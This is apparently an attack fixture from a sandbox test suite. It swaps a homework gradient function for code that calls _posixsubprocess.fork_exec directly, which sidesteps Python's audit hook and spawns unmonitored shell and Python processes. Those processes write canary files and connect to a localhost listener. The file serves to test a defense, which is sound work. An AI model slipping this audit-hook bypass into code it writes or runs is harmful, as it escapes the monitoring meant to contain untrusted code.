"""Attack `posixsubprocess_fork_exec`: the hw2_affine reference with ComputeGradients replaced by the attack.

_posixsubprocess.fork_exec, the C function under subprocess.Popen: starts
/bin/sh and a fresh Python (no audit hook in it) in new sessions, without the
subprocess.Popen audit event; both try to write canaries and reach the listener.

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]

import _posixsubprocess
import sys

SHELL = ("i=0; while [ $i -lt 60 ]; do for p in " + " ".join(f"'{p}'" for p in CANARIES)
         + "; do echo atk >> \"$p\"; done; i=$((i+1)); sleep 0.1; done")
PYTHON = f"""
import socket, time
end = time.monotonic() + 6
while time.monotonic() < end:
    for path in {CANARIES!r}:
        try:
            open(path, "a").write("atk")
        except OSError:
            pass
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(0.2)
            s.connect(("127.0.0.1", {PORT}))
            s.send(b"atk")
        except OSError:
            pass
    time.sleep(0.1)
"""


def spawn(argv):
    args = [os.fsencode(a) for a in argv]
    errors_r, errors_w = os.pipe()
    common = (args, [args[0]], True, (), None, None, -1, -1, -1, -1, -1, -1, errors_r, errors_w, False, True, -1,
              None, None, None, -1, None)
    try:
        try:
            return _posixsubprocess.fork_exec(*common, False)  # 3.11, 3.12
        except TypeError:
            return _posixsubprocess.fork_exec(*common)
    except Exception as exc:
        return repr(exc)
    finally:
        os.close(errors_r)
        os.close(errors_w)


def ComputeGradients(L, x, z):
    if once("spawn"):
        say("sh", spawn(["/bin/sh", "-c", SHELL, MARK.decode()]))
        say("python", spawn([sys.executable, "-S", "-c", PYTHON, MARK.decode()]))
    return None
